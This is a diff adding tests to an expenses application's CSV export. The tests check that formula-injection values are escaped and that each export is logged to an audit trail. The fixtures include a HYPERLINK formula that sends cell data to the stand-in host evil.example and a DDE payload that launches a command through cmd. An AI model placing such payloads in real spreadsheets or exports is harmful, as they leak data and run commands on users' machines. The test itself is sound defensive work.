@@ -175,6 +175,46 @@ def test_export_opens_cleanly_in_excel_and_reads_back(client, year, finance_lead
     assert client.get(reverse("expenses:export", args=[1999])).status_code == 404
 
 
+def test_export_neutralises_spreadsheet_formulas_and_keeps_numbers_numeric(
+    client, year, finance_lead
+):
+    claimant = UserFactory(roles=[Role.VOLUNTEER], full_name="@SUM(A1:A9)")
+    hostile = {
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "=cmd|' /C calc'!A0",
+        "+44 7700 900123": "-2+3",
+        "\tTabbed": "\rReturned",
+        "Plain description": "REF-1",
+    }
+    for n, (description, reference) in enumerate(hostile.items()):
+        ExpenseClaim.objects.create(
+            claimant=claimant, spent_on=date(2026, 6, 1 + n), category=Category.OTHER,
+            description=description, amount=D("12.50"), status=ClaimStatus.PAID,
+            decided_by=finance_lead, paid_on=date(2026, 6, 20), payment_reference=reference,
+        )  # fmt: skip
+    client.force_login(finance_lead)
+    body = b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    by_description = {row["Description"]: row for row in rows}
+    formula = by_description['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")']
+    assert formula["Payment reference"] == "'=cmd|' /C calc'!A0"
+    assert formula["Claimant"] == "'@SUM(A1:A9)"
+    assert by_description["'+44 7700 900123"]["Payment reference"] == "'-2+3"
+    assert by_description["'\tTabbed"]["Payment reference"] == "'\rReturned"
+    assert by_description["Plain description"]["Payment reference"] == "REF-1"
+    assert {row["Amount"] for row in rows if row["Type"] != "Venue hire (session)"} == {"12.50"}
+
+
+def test_every_export_is_on_the_audit_trail(client, year, finance_lead):
+    from hope.models import AuditEvent
+
+    client.force_login(finance_lead)
+    b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
+    event = AuditEvent.objects.get(action="export.spend_csv")
+    assert event.actor == finance_lead and event.area == "money"
+
+
 def test_finance_lead_sets_up_a_budget_with_allocations(client, finance_lead):
     client.force_login(finance_lead)
     response = client.post(
